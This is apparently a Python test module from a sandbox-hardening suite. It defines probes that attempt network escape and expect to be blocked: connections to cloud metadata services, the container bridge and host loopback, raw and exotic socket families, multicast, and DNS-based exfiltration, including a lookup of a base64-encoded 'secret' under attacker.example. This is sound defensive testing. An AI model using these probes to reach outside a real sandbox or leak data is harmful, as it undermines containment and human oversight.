"""Ways to the network: to the host, to a cloud's metadata, out by any protocol."""

from __future__ import annotations

from tests.support.attacks import honeypot
from tests.support.attacks.probe import Differs, Probe, Record, python

NO_WAY = (
    "ENETUNREACH",
    "EHOSTUNREACH",
    "ECONNREFUSED",
    "EADDRNOTAVAIL",
    "EPERM",
    "EACCES",
    "ENETDOWN",
)
_SEEN = ("attempted", "denied")


def _connected(name: str, tries: str, host: str, port: int, family: str = "INET") -> Probe:
    to = "*" if port == honeypot.PORT else port  # another one in each run of the suite
    shown = f"[[]{host}]:{to}" if ":" in host else f"{host}:{to}"
    return Probe(
        id=name,
        tries=tries,
        steps=(
            python(
                "import socket\n"
                f"s = socket.socket(socket.AF_{family}); s.settimeout(2)\n"
                f"tell(s.connect, ({host!r}, {port}))"
            ),
        ),
        held=NO_WAY,
        record=(Record("network", "connect", shown, _SEEN),),
    )


def _family(name: str, tries: str, arguments: str, record: Record | None = None) -> Probe:
    return Probe(
        id=name,
        tries=tries,
        steps=(python(f"import socket\ntell(socket.socket, {arguments})"),),
        held=("EPERM", "EAFNOSUPPORT", "EPROTONOSUPPORT", "EACCES", "ESOCKTNOSUPPORT"),
        record=(record or Record("process", "syscall", f"socket(AF_{name.upper()})"),),
    )


PROBES = (
    _connected("metadata", "reach a cloud's metadata service", "169.254.169.254", 80),
    _connected("metadata-v6", "reach it by IPv6", "fd00:ec2::254", 80, "INET6"),
    _connected("gateway", "reach the engine's bridge", "172.17.0.1", honeypot.PORT),
    _connected(
        "host-loopback", "reach a service of the host's loopback", "127.0.0.1", honeypot.PORT
    ),
    _connected("host-any", "reach it by the address that means any", "0.0.0.0", honeypot.PORT),
    _connected(
        "host-mapped",
        "reach it by an IPv4 address written as IPv6",
        "::ffff:127.0.0.1",
        honeypot.PORT,
        "INET6",
    ),
    _connected("outside", "reach a host of the internet", "192.0.2.1", 443),
    _connected("outside-v6", "reach one by IPv6", "2001:db8::1", 443, "INET6"),
    Probe(
        id="link-local",
        tries="reach neighbours by IPv6 link-local addresses, on every interface",
        steps=(
            python(
                "import socket\n"
                "for number in range(1, len(open('/proc/net/dev').readlines()) - 1):\n"
                "    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)\n"
                "    tell(s.sendto, b'x', ('fe80::1', 80, 0, number))"
            ),
        ),
        held=NO_WAY,
        differs={
            "gvisor": Differs(
                ("allowed",), "There is the loopback only, and what is sent on it reaches nobody."
            )
        },
    ),
    Probe(
        id="interfaces",
        tries="find an interface or a route that leads anywhere",
        steps=(
            python(
                "names = [l.split(':')[0].strip() for l in open('/proc/net/dev') if ':' in l]\n"
                "routes = open('/proc/net/route').readlines()[1:]\n"
                "print(names, len(routes))"
            ),
        ),
        held=("['lo'] 0",),
    ),
    Probe(
        id="interface-up",
        tries="give an interface another address",
        steps=(
            python(
                "import fcntl, socket, struct\n"
                "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
                "request = struct.pack('16sHH4s8x', b'lo', 2, 0, bytes([169, 254, 169, 254]))\n"
                "tell(fcntl.ioctl, s, 0x8916, request)"
            ),
        ),
        held=("EPERM", "ENOTTY"),
    ),
    Probe(
        id="dns-datagram",
        tries="carry data out in a question to a name server",
        steps=(
            python(
                "import socket\n"
                "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)\n"
                "question = b'\\1\\2\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6secret\\7example\\0\\0\\1\\0\\1'\n"
                "tell(lambda: (s.sendto(question, ('8.8.8.8', 53)), s.recv(1)))"
            ),
        ),
        held=NO_WAY,
        record=(Record("network", "resolve", "secret.example", _SEEN),),
    ),
    Probe(
        id="dns-resolver",
        tries="carry data out in a name that the system looks up",
        steps=(
            python(
                "import socket\n"
                "try: print('found', socket.getaddrinfo('c2VjcmV0.attacker.example', 80))\n"
                "except socket.gaierror: print('no answer')"
            ),
        ),
        held=("no answer",),
    ),
    Probe(
        id="dns-engine",
        tries="ask the engine's own resolver, and those that the container's files name",
        steps=(
            python(
                "import socket\n"
                "servers = {'127.0.0.11', '127.0.0.53', '127.0.0.1'}\n"
                "try: servers |= {l.split()[1] for l in open('/etc/resolv.conf') if l.startswith('nameserver')}\n"
                "except OSError: pass\n"
                "question = b'\\1\\2\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\7example\\3com\\0\\0\\1\\0\\1'\n"
                "answers = 0\n"
                "for server in servers:\n"
                "    s = socket.socket(socket.AF_INET6 if ':' in server else socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(0.3)\n"
                "    try: s.connect((server, 53)); s.send(question); s.recv(1); answers += 1\n"
                "    except OSError: pass\n"
                "print('answers' if answers else 'no answer')"
            ),
        ),
        held=("no answer",),
    ),
    Probe(
        id="multicast",
        tries="call out to whoever listens nearby (mDNS, SSDP, broadcast)",
        steps=(
            python(
                "import socket\n"
                "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
                "s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)\n"
                "for address in (('239.255.255.250', 1900), ('224.0.0.251', 5353), ('255.255.255.255', 67)):\n"
                "    tell(s.sendto, b'x', address)"
            ),
        ),
        held=NO_WAY,
    ),
    _family(
        "raw",
        "send packets of its own making",
        "socket.AF_INET, socket.SOCK_RAW, 1",
        Record("network", "socket", "*"),
    ),
    _family(
        "raw-v6",
        "send ICMPv6 of its own making",
        "socket.AF_INET6, socket.SOCK_RAW, 58",
        Record("network", "socket", "*"),
    ),
    _family("packet", "listen to the wire (AF_PACKET)", "17, socket.SOCK_RAW, 0x300"),
    _family("vsock", "reach the hypervisor (AF_VSOCK)", "40, socket.SOCK_STREAM"),
    _family("alg", "use the kernel's cryptography (AF_ALG)", "38, 5"),
    _family("netlink", "ask and configure the kernel (AF_NETLINK)", "16, socket.SOCK_RAW, 0"),
    _family("bluetooth", "reach devices nearby (AF_BLUETOOTH)", "31, socket.SOCK_RAW, 0"),
    _family("xdp", "map the wire into memory (AF_XDP)", "44, socket.SOCK_RAW"),
    _family("can", "reach a vehicle's bus (AF_CAN)", "29, socket.SOCK_RAW, 1"),
    Probe(
        id="ping",
        tries="reach out by the ping socket, which needs no rights",
        steps=(
            python(
                "import socket\n"
                "def ping():\n"
                "    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1)\n"
                "    s.sendto(b'\\x08\\0\\xf7\\xff\\0\\0\\0\\0', ('192.0.2.1', 0))\n"
                "tell(ping)"
            ),
        ),
        held=NO_WAY,
    ),
)
